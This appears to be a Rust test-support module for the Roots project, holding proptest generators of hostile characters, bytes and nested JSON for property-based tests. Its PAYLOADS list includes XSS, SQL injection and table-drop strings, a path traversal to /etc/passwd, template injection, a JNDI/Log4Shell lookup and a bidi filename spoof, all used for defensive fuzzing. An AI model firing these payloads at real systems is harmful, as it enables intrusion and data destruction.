//! Generators of hostile input for the property-based tests (issue 19):
//! the characters, texts, numbers, dates, bytes and JSON that outside
//! testers used against Roots, and more of the same shape. Built only with
//! the `hostile` feature, which only the test suites turn on; nothing here
//! is part of the product.
//!
//! Each generator is a `proptest` strategy, so the pure suites
//! (`crates/core/tests/properties.rs`, `crates/directory/tests/properties.rs`)
//! shrink a failure to its smallest case, and the HTTP suite
//! (`crates/roots/tests/properties.rs`) draws from the same distributions.

use proptest::prelude::*;
use serde_json::Value;

/// Characters that have broken, or could break, a parser, a database, a
/// log or a page: controls (NUL, ESC, DEL, C1), bidirectional overrides
/// and isolates, zero-width and invisible characters, the byte order mark,
/// noncharacters, combining marks, characters outside the basic plane,
/// right-to-left letters, Welsh letters, HTML and SQL metacharacters and
/// plain letters.
pub fn hostile_char() -> impl Strategy<Value = char> {
    prop_oneof![
        3 => Just('\u{0}'),
        2 => (1u32..0x20).prop_map(|c| char::from_u32(c).unwrap_or('\u{1}')),
        1 => Just('\u{7f}'),
        1 => (0x80u32..0xa0).prop_map(|c| char::from_u32(c).unwrap_or('\u{80}')),
        2 => prop::sample::select(vec![
            '\u{202a}', '\u{202b}', '\u{202c}', '\u{202d}', '\u{202e}', '\u{2066}', '\u{2067}',
            '\u{2068}', '\u{2069}', '\u{200e}', '\u{200f}',
        ]),
        2 => prop::sample::select(vec![
            '\u{200b}', '\u{200c}', '\u{200d}', '\u{2060}', '\u{feff}', '\u{00ad}', '\u{180e}',
        ]),
        1 => prop::sample::select(vec!['\u{fffe}', '\u{ffff}', '\u{1fffe}', '\u{fdd0}']),
        1 => prop::sample::select(vec!['\u{301}', '\u{308}', '\u{20dd}']),
        1 => prop::sample::select(vec!['😀', '𝔘', '🏴', '\u{10ffff}']),
        1 => prop::sample::select(vec!['ا', 'ש', 'ދ']),
        2 => prop::sample::select(vec!['ŵ', 'ŷ', 'â', 'ï', 'Ŵ', 'ô']),
        3 => prop::sample::select(vec![
            '<', '>', '&', '"', '\'', '%', '\\', '/', ';', '=', '?', '#', '{', '}', '$', '`',
        ]),
        2 => prop::sample::select(vec!['\n', '\r', '\t', ' ']),
        6 => prop::char::range('a', 'z'),
        2 => prop::char::range('0', '9'),
        1 => any::<char>(),
    ]
}

/// Known attack payloads and edge values, as text.
pub const PAYLOADS: &[&str] = &[
    "",
    " ",
    "\u{0}",
    "pain\u{0}",
    "\u{1b}[31mred\u{1b}[0m",
    "\u{200b}\u{200b}\u{200b}",
    "\u{feff}",
    "\u{202e}gnp.exe",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "' OR '1'='1' --",
    "'; DROP TABLE referrals; --",
    "../../../../etc/passwd",
    "%00",
    "%FF%FE",
    "{{7*7}}",
    "${jndi:ldap://example.invalid/a}",
    "-1",
    "0",
    "-0",
    "00000000000000000000001",
    "9223372036854775807",
    "9223372036854775808",
    "-9223372036854775809",
    "18446744073709551616",
    "1e308",
    "-1e308",
    "NaN",
    "Infinity",
    "٣",
    "9999-12-31",
    "9999-12-30",
    "0000-00-00",
    "0001-01-01",
    "2026-02-30",
    "+010000-01-01",
    "-001000-01-01",
    "2026-12-07T25:61:61Z",
    "null",
    "[]",
    "{}",
    "true",
];

/// Hostile text: a known payload, a run of hostile characters, or one
/// character repeated from a hundred to seventy thousand times (past the
/// default body limit of 64 KiB).
pub fn hostile_text() -> impl Strategy<Value = String> {
    prop_oneof![
        4 => prop::sample::select(PAYLOADS).prop_map(str::to_owned),
        6 => prop::collection::vec(hostile_char(), 0..48).prop_map(|v| v.into_iter().collect()),
        1 => (hostile_char(), 100usize..70_000).prop_map(|(c, n)| std::iter::repeat_n(c, n).collect()),
        2 => "[a-zA-Z' -]{0,24}",
    ]
}

/// Bytes for a form value that need not be UTF-8: overlong encodings,
/// lone continuation bytes, surrogates encoded as UTF-8, and plain bytes.
pub fn hostile_bytes() -> impl Strategy<Value = Vec<u8>> {
    prop_oneof![
        prop::sample::select(vec![
            vec![0xffu8],
            vec![0xfe, 0xff],
            vec![0xc0, 0x80],
            vec![0xed, 0xa0, 0x80],
            vec![0x80],
            vec![b'a', 0xe2, 0x82],
            vec![0xf4, 0x90, 0x80, 0x80],
        ]),
        prop::collection::vec(any::<u8>(), 0..32),
    ]
}

/// Hostile JSON: hostile text and extreme numbers in any shape, nested up
/// to `depth` (and, sometimes, a chain far deeper than any parser should
/// follow).
pub fn hostile_json(depth: u32) -> impl Strategy<Value = Value> {
    let leaf = prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::Bool),
        any::<i64>().prop_map(Value::from),
        any::<u64>().prop_map(Value::from),
        prop::sample::select(vec![
            f64::MAX,
            f64::MIN,
            f64::MIN_POSITIVE,
            -0.0,
            1e308,
            0.1,
            -5.0,
        ])
        .prop_map(Value::from),
        hostile_text().prop_map(Value::String),
    ];
    let nested = leaf.prop_recursive(depth, 64, 8, |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..8).prop_map(Value::Array),
            prop::collection::btree_map(hostile_text(), inner, 0..8)
                .prop_map(|m| Value::Object(m.into_iter().collect())),
        ]
    });
    prop_oneof![
        20 => nested,
        1 => (100usize..600).prop_map(|n| {
            let mut v = Value::Null;
            for _ in 0..n {
                v = Value::Array(vec![v]);
            }
            v
        }),
    ]
}

/// True when `s` holds a character that no stored text may hold, whatever
/// the field: NUL and the other C0 controls but tab, newline and carriage
/// return, DEL, the C1 controls, bidirectional overrides and isolates, and
/// the byte order mark. (Each field's own rule may refuse more.)
pub fn forbidden_anywhere(s: &str) -> bool {
    s.chars().any(|c| {
        (c.is_control() && !matches!(c, '\t' | '\n' | '\r'))
            || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}')
    })
}

/// How many times the default number of cases each property runs:
/// `ROOTS_PROPERTY_SCALE` (1 unless set). The test command runs the
/// defaults; a long run sets, say, `ROOTS_PROPERTY_SCALE=50`.
pub fn scale() -> u32 {
    std::env::var("ROOTS_PROPERTY_SCALE")
        .ok()
        .and_then(|v| v.trim().parse::<u32>().ok())
        .filter(|n| *n > 0)
        .unwrap_or(1)
}

/// Runs one property over `cases` × [`scale`] generated values, shrinking a
/// failure to its smallest case and panicking with it, and prints how many
/// cases were tried (shown in the test command's summary).
pub fn check<S>(
    name: &str,
    cases: u32,
    strategy: S,
    test: impl Fn(S::Value) -> Result<(), proptest::test_runner::TestCaseError>,
) where
    S: Strategy,
    S::Value: std::fmt::Debug,
{
    use proptest::test_runner::{Config, TestRunner};
    let cases = cases.saturating_mul(scale());
    let mut runner = TestRunner::new(Config {
        cases,
        failure_persistence: None,
        ..Config::default()
    });
    match runner.run(&strategy, test) {
        Ok(()) => println!("property {name}: {cases} generated cases, every one held"),
        Err(e) => panic!("property {name} failed: {e}"),
    }
}

/// Every string in a JSON value, object keys included, in document order.
pub fn strings(v: &Value) -> Vec<String> {
    fn walk(v: &Value, out: &mut Vec<String>) {
        match v {
            Value::String(s) => out.push(s.clone()),
            Value::Array(items) => items.iter().for_each(|i| walk(i, out)),
            Value::Object(map) => {
                for (k, v) in map {
                    out.push(k.clone());
                    walk(v, out);
                }
            }
            _ => {}
        }
    }
    let mut out = Vec::new();
    walk(v, &mut out);
    out
}
